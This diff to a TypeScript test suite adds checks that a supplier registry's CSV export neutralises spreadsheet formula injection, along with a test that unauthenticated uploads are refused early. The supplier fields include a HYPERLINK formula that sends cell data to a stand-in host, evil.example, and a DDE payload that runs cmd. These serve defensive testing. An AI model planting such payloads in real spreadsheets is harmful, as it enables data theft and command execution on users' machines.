@@ -1,4 +1,6 @@
 import { spawn } from 'node:child_process';
+import { request as httpRequest } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { readFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
@@ -143,6 +145,14 @@ describe('supplier registry import and export', () => {
       admin.token,
     );
     expect(created.errors).toBeUndefined();
+    // Cells a spreadsheet would run as formulas: neutralised in the CSV, restored by the import.
+    const formulas = await t.gql(
+      `mutation($input: CreateSupplierInput!) { createSupplier(input: $input) { id } }`,
+      { input: { taxCode: CODES[21], nameVi: '=HYPERLINK("http://evil.example/?x="&A1,"Mở")', tradeNameEn: "-5 Stamping ('minus five')", descriptionVi: "'=already quoted\nand more", processes: ['STAMPING'],
+        contact: { name: '@SUM(1+1)*cmd|" /C calc"!A0', phone: '+84 225 3812 346' } } },
+      admin.token,
+    );
+    expect(formulas.errors).toBeUndefined();
     const before = await snapshot();
     expect(before.suppliers.length).toBeGreaterThan(40);
     for (const name of ['registry.csv', 'registry.xlsx', 'registry.jsonl']) {
@@ -151,6 +161,10 @@ describe('supplier registry import and export', () => {
       const result = await importer.run(await readRegistryFile(await readFile(path), path));
       expect({ name, ...result, rows: undefined }).toMatchObject({ name, total: before.suppliers.length, unchanged: before.suppliers.length, created: 0, updated: 0, rejected: 0, unknownHeaders: [] });
       expect(await snapshot()).toEqual(before);
+      if (name === 'registry.csv') {
+        const text = readFileSync(path, 'utf8');
+        for (const cell of [`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Mở"")",`, `,'-5 Stamping ('minus five'),`, `,"'@SUM(1+1)*cmd|"" /C calc""!A0",`, `,'+84 225 3812 346,`, `,"''=already quoted\nand more",`]) expect(text).toContain(cell);
+      }
     }
     // Vietnamese headers round-trip too; an edit in the export updates just that supplier and keeps its equipment and certificate details.
     const path = join(dir, 'registry-vi.csv');
@@ -193,6 +207,53 @@ describe('supplier registry import and export', () => {
     expect(row.created_by).toBe(admin.userId);
     const unusable = await upload('just some text', admin.token, false, 'notes.txt');
     expect(unusable.body.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', fieldErrors: [{ field: 'file', reason: expect.stringMatching(/tax_code/) }] });
+  });
+
+  it('refuses an upload without an ADMIN token before reading its body, and closes the connection', async () => {
+    // A multipart request announcing 15 MB that never finishes: the server must answer, and then
+    // close the connection rather than wait for (and read) the rest of the body.
+    const attempt = (url: string, authorization?: string, operations = JSON.stringify({ query: MUTATION, variables: { file: null } })) =>
+      new Promise<{ status: number; body: string; sentBytes: number }>((resolve, reject) => {
+        const boundary = 'x-boundary-1234';
+        const head = `--${boundary}\r\nContent-Disposition: form-data; name="operations"\r\n\r\n${operations}\r\n` +
+          `--${boundary}\r\nContent-Disposition: form-data; name="map"\r\n\r\n{"0":["variables.file"]}\r\n--${boundary}\r\nContent-Disposition: form-data; name="0"; filename="big.csv"\r\n\r\n`;
+        const req = httpRequest(url, {
+          method: 'POST',
+          headers: { 'content-type': `multipart/form-data; boundary=${boundary}`, 'content-length': String(15 * 1024 * 1024), 'apollo-require-preflight': 'true', ...(authorization ? { authorization } : {}) },
+        });
+        let sentBytes = 0;
+        const chunk = Buffer.alloc(16 * 1024, 'a');
+        req.write(head);
+        sentBytes += head.length;
+        // Some of the file, then nothing more: the request stays open.
+        for (let i = 0; i < 4; i += 1) {
+          req.write(chunk);
+          sentBytes += chunk.length;
+        }
+        let answer: { status: number; body: string } | undefined;
+        req.on('response', (res) => {
+          let body = '';
+          res.on('data', (d: Buffer) => (body += d.toString()));
+          res.on('end', () => (answer = { status: res.statusCode!, body }));
+        });
+        req.on('error', () => undefined); // the server closing a request it did not read is the point
+        req.on('close', () => (answer ? resolve({ ...answer, sentBytes }) : reject(new Error('closed without an answer'))));
+        // Without the early refusal the connection stays open, waiting for the 15 MB that never come.
+        setTimeout(() => {
+          req.destroy();
+          reject(new Error(`the connection stayed open (answered: ${JSON.stringify(answer)}) while the body was incomplete (${sentBytes} bytes sent)`));
+        }, 20000).unref();
+      });
+    const member = await registerUser(t, 'bigupload');
+    const server = t.app.getHttpServer();
+    if (!server.listening) await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
+    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/graphql`;
+    // The first case holds a body that cannot be parsed: refused as UNAUTHENTICATED, not as a bad body, because it is never read.
+    for (const [authorization, code, operations] of [[undefined, 'UNAUTHENTICATED', '{ not json'], [undefined, 'UNAUTHENTICATED'], ['Bearer not-a-token', 'UNAUTHENTICATED'], [`Bearer ${member.token}`, 'FORBIDDEN']] as const) {
+      const answer = await attempt(url, authorization, operations);
+      expect(answer.sentBytes).toBeLessThan(100 * 1024);
+      expect({ status: answer.status, body: answer.body }).toEqual({ status: code === 'UNAUTHENTICATED' ? 401 : 403, body: expect.stringContaining(`"code":"${code}"`) });
+    }
   });
 
   it('leaves every row of a file imported whole or absent when the import process is killed midway', async () => {
